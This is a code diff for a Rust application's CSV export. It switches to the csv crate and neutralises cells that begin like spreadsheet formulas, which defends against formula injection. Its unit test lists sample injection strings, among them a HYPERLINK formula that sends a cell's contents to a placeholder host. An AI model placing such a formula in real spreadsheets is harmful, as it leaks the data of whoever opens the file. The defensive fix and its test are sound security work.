@@ -436,8 +436,11 @@ pub async fn operator(state: &AppState, actor: &Actor) -> AppResult<OperatorOver
     })
 }
 
-fn csv_field(s: &str) -> String {
-    if s.contains([',', '"', '\n', '\r', ';']) { format!("\"{}\"", s.replace('"', "\"\"")) } else { s.to_string() }
+/// A cell as a spreadsheet will read it: text that starts like a formula (`=`, `+`, `-`, `@`, a
+/// tab or a carriage return) gets a leading apostrophe, so a name or title typed by someone can
+/// never run as a formula on the director's machine.
+fn csv_cell(s: &str) -> String {
+    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{s}") } else { s.to_string() }
 }
 
 /// The organisation's items as CSV: status, owner, dates and the evidence on each.
@@ -467,23 +470,21 @@ pub async fn export_csv(state: &AppState, actor: &Actor, org: i64, lang: &str) -
         ev.entry(e.item_id).or_default().push(e);
     }
     let t = |k: &str| state.translations.get(lang, k).to_string();
-    let mut out = String::from("\u{feff}");
-    out.push_str(
-        &[
-            "checklist",
-            "item_key",
-            "item",
-            "status",
-            "owner",
-            "due_date",
-            "status_changed_at",
-            "evidence",
-            "evidence_valid_until",
-            "archived",
-        ]
-        .join(","),
-    );
-    out.push_str("\r\n");
+    let mut out = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(b"\xEF\xBB\xBF".to_vec());
+    let csv_error = |e: csv::Error| AppError::internal(format!("csv: {e}"));
+    out.write_record([
+        "checklist",
+        "item_key",
+        "item",
+        "status",
+        "owner",
+        "due_date",
+        "status_changed_at",
+        "evidence",
+        "evidence_valid_until",
+        "archived",
+    ])
+    .map_err(csv_error)?;
     let mut ordered: Vec<&item::Model> = rows.iter().collect();
     let pos = |r: &item::Model| {
         let l = state.checklists.all().iter().position(|l| l.key == r.checklist_key).unwrap_or(usize::MAX);
@@ -518,9 +519,10 @@ pub async fn export_csv(state: &AppState, actor: &Actor, org: i64, lang: &str) -
             until,
             if def.is_none() { "yes".into() } else { String::new() },
         ];
-        out.push_str(&fields.iter().map(|f| csv_field(f)).collect::<Vec<_>>().join(","));
-        out.push_str("\r\n");
+        out.write_record(fields.iter().map(|f| csv_cell(f))).map_err(csv_error)?;
     }
+    let bytes = out.into_inner().map_err(|e| AppError::internal(format!("csv: {e}")))?;
+    let out = String::from_utf8(bytes).map_err(AppError::internal)?;
     let name: String =
         o.name.chars().map(|c| if c.is_ascii_alphanumeric() { c.to_ascii_lowercase() } else { '-' }).collect();
     Ok((format!("{name}-items.csv"), out))
@@ -528,11 +530,13 @@ pub async fn export_csv(state: &AppState, actor: &Actor, org: i64, lang: &str) -
 
 #[cfg(test)]
 mod tests {
-    use super::csv_field;
+    use super::csv_cell;
 
     #[test]
-    fn csv_fields_with_separators_or_quotes_are_quoted() {
-        assert_eq!(csv_field("plain"), "plain");
-        assert_eq!(csv_field("a, \"b\""), "\"a, \"\"b\"\"\"");
+    fn cells_that_start_like_a_formula_are_neutralised() {
+        assert_eq!(csv_cell("plain"), "plain");
+        for formula in ["=HYPERLINK(\"http://x/?leak=\"&C2,\"Klik hier\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(csv_cell(formula).starts_with('\''), "{formula:?}");
+        }
     }
 }
